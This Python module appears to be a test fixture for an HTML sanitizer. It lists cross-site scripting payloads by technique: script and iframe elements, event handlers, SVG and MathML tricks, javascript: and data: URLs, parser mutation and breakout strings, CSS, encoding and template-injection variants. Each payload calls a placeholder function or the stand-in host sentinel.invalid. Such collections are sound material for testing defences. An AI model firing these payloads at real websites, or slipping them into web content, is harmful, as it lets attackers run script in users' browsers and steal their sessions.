"""Texts that try to run something in a browser, by technique.

`RUN` in them stands for a call of a case's own, such as ``pwned(17)``, and `ELSEWHERE` for the address of a host that
nothing may be asked of. A text is one case in each string that people may send.
"""

from __future__ import annotations

ELSEWHERE = "sentinel.invalid"

ELEMENTS = (
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script/x>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    f"<script src=//{ELSEWHERE}/RUN></script>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe src=javascript:parent.RUN></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<form action=javascript:RUN><button>B</button></form>",
    "<form id=f></form><button form=f formaction=javascript:RUN>B</button>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>O</select>",
    "<isindex action=javascript:RUN type=image>",
    "<portal src=javascript:RUN></portal>",
    f'<meta http-equiv=refresh content="0;url=//{ELSEWHERE}/RUN">',
    '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
    f"<base href=//{ELSEWHERE}/><script src=/RUN></script>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/RUN>",
    f'<link rel=prefetch href="//{ELSEWHERE}/RUN">',
)

HANDLERS = (
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<img src=x:x onerror\n=\nRUN>",
    '<img src="x` `<script>RUN</script>"` `>',
    "<IMG SRC=x OnErRoR=&#112;wned(0),RUN>",
    "<body onload=RUN>",
    "<p tabindex=0 autofocus onfocus=RUN>P</p>",
    "<details open ontoggle=RUN><summary>S</summary></details>",
    "<video autoplay onloadstart=RUN><source src=x onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<a href=# onclick=RUN onmouseover=RUN>A</a>",
    "<div style=animation-name:pw onanimationstart=RUN>D</div>",
    "<marquee onstart=RUN>M</marquee>",
    "<p oncontentvisibilityautostatechange=RUN style=content-visibility:auto>P</p>",
    "<div popover id=p onbeforetoggle=RUN>D</div><button popovertarget=p>B</button>",
)

FOREIGN = (
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:,RUN /></svg>",
    "<svg><a xlink:href=javascript:RUN><text x=9 y=9>T</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:RUN /><a><text>T</text></a></svg>",
    "<svg><set attributeName=onmouseover to=RUN></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=RUN /></svg>#x\"/>",
    "<math href=javascript:RUN>M</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>M</maction></math>",
)

ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "\x01javascript:RUN",
    "javascript&colon;RUN",
    "&#106;avascript:RUN",
    "javascript://%0aRUN",
    "javascript:/*--></title></style></textarea></script><svg onload=RUN>*/",
    "vbscript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgwKTwvc2NyaXB0Pg==",
    "blob:null/RUN",
    "view-source:javascript:RUN",
    f"//{ELSEWHERE}/RUN",
    f"/\\{ELSEWHERE}/RUN",
    f"\\\\{ELSEWHERE}/RUN",
    '<a href="javascript:RUN">A</a>',
    '<a href="java&#9;script:RUN">A</a>',
    '<a href="&#x6a;avascript:RUN">A</a>',
    '<a href=" &#14; javascript:RUN">A</a>',
    '<a href="data:text/html,<script>RUN</script>">A</a>',
    "[A](javascript:RUN)",
)

MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<template><img src=x onerror=RUN></template>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    '<textarea><p title="</textarea><img src=x onerror=RUN>">',
    '<title><p title="</title><img src=x onerror=RUN>">',
    '<xmp><p title="</xmp><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "<svg><style>/*</style><img src=x onerror=RUN>*/</style></svg>",
    "<math><annotation-xml encoding=text/html><style></math><img src=x onerror=RUN>",
    "<!--><img src=x onerror=RUN>-->",
    "<!----!><img src=x onerror=RUN>-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?xml version=1.0?><img src=x onerror=RUN>",
    "<select><template><img src=x onerror=RUN></template></select>",
    "<table><caption><svg><title><table></table><style><img src=x onerror=RUN></style></table>",
    "&lt;img src=x onerror=RUN&gt;",
    "&amp;lt;img src=x onerror=RUN&amp;gt;",
    '<p data-pw-kept data-pw-kept-html="&lt;img src=x onerror=RUN&gt;">P</p>',
    '<div data-island=cms.text data-props=\'{"fields":{"content":"<img src=x onerror=RUN>"}}\'>D</div>',
)

BREAKOUTS = (
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    "><img src=x onerror=RUN>",
    '" autofocus onfocus=RUN x="',
    "' autofocus onfocus=RUN x='",
    "` onmouseover=RUN x=`",
    "x onmouseover=RUN",
    "--><img src=x onerror=RUN>",
    "]]><img src=x onerror=RUN>",
    "</title><img src=x onerror=RUN>",
    "</style><img src=x onerror=RUN>",
    "</textarea><img src=x onerror=RUN>",
    "</noscript><img src=x onerror=RUN>",
    "</script><img src=x onerror=RUN>",
    "</script ><script>RUN</script>",
    "<!--<script>RUN</script>",
    '"}</script><script>RUN</script>',
    '";RUN;//',
    "';RUN;//",
    '\\";RUN;//',
    "\u2028RUN\u2029",
    "${RUN}",
    "`+RUN+`",
)

STYLES = (
    "<style>@import '//sentinel.invalid/RUN';</style>",
    '<p style="background:url(javascript:RUN)">P</p>',
    '<p style="background:url(//sentinel.invalid/RUN)">P</p>',
    '<p style="width:expression(RUN)">P</p>',
    '<p style="behavior:url(#x);-moz-binding:url(//sentinel.invalid/RUN)">P</p>',
    "red;background:url(//sentinel.invalid/RUN)",
    "x}*{background:url(//sentinel.invalid/RUN)}",
    "\\22 ) ;}*{background:url(//sentinel.invalid/RUN)}",
    "url(//sentinel.invalid/RUN)",
)

ENCODINGS = (
    "<img src=x onerror=RUN\x00>",
    "<scr\x00ipt>RUN</script>",
    "\ufeff<img src=x onerror=RUN>",
    "\u202e<img src=x onerror=RUN>",
    "\uff1cimg src=x onerror=RUN\uff1e",
    "\u02bbscript\u02bcRUN",
    "%3Cimg%20src=x%20onerror=RUN%3E",
    "%253Cimg%2520src=x%2520onerror=RUN%253E",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "\\x3cimg src=x onerror=RUN\\x3e",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\u00c0\u00bcimg src=x onerror=RUN\u00c0\u00be",
    "\ud800<img src=x onerror=RUN>",
)

TEMPLATES = (
    "{{ RUN }}",
    "{{constructor.constructor('RUN')()}}",
    "{% raw %}<img src=x onerror=RUN>{% endraw %}",
    "{{ '<img src=x onerror=RUN>' }}",
    "<%= RUN %>",
    "#{RUN}",
    '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}}',
    '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"RUN"}}',
)

# Images within a text, whose addresses, sizes and words the server writes anew.
FIGURES = (
    "<figure><img src=x onerror=RUN><figcaption>C</figcaption></figure>",
    '<figure onclick=RUN><img src="/files/a.png" alt="A" onload=RUN><figcaption tabindex=0 autofocus onfocus=RUN>C</figure>',
    '<figure><img src="javascript:RUN" alt="A"><figcaption>C</figcaption></figure>',
    '<figure><img src="/files/a.png&quot; onerror=&quot;RUN" alt="A"></figure>',
    "<figure><img src=\"/files/a.png?' onerror='RUN\" alt='A'></figure>",
    '<figure><img src="/files/a.png" alt="&quot;&gt;&lt;img src=x onerror=RUN&gt;"></figure>',
    '<figure><img src="/files/a.png" alt="A"><figcaption><svg onload=RUN></svg><img src=x onerror=RUN></figure>',
    '<figure><img src="/files/a.png" alt="A"><figcaption>&lt;img src=x onerror=RUN&gt;</figcaption></figure>',
    f'<figure><img src="/files/a.png" srcset="//{ELSEWHERE}/RUN 1x" alt="A"></figure>',
    f'<figure><picture><source srcset="//{ELSEWHERE}/RUN"><img src="/files/a.png" alt="A"></picture></figure>',
    f'<figure style="background:url(//{ELSEWHERE}/RUN)"><img src="/files/a.png" alt="A"></figure>',
    f'<figure><img src="/files/..//{ELSEWHERE}/RUN" alt="A"></figure>',
    '<figure><img src="/files/a.png" alt="A" width="1" onerror=RUN x=" height="-1"></figure>',
)

TECHNIQUES: dict[str, tuple[str, ...]] = {
    "elements": ELEMENTS,
    "handlers": HANDLERS,
    "foreign": FOREIGN,
    "addresses": ADDRESSES,
    "mutations": MUTATIONS,
    "breakouts": BREAKOUTS,
    "styles": STYLES,
    "encodings": ENCODINGS,
    "templates": TEMPLATES,
    "figures": FIGURES,
}
PAYLOADS: tuple[str, ...] = tuple(text for texts in TECHNIQUES.values() for text in texts)


def case(number: int, payload: str) -> str:
    """The text of one case: what it runs names the case."""
    return payload.replace("RUN", f"pwned({number})")
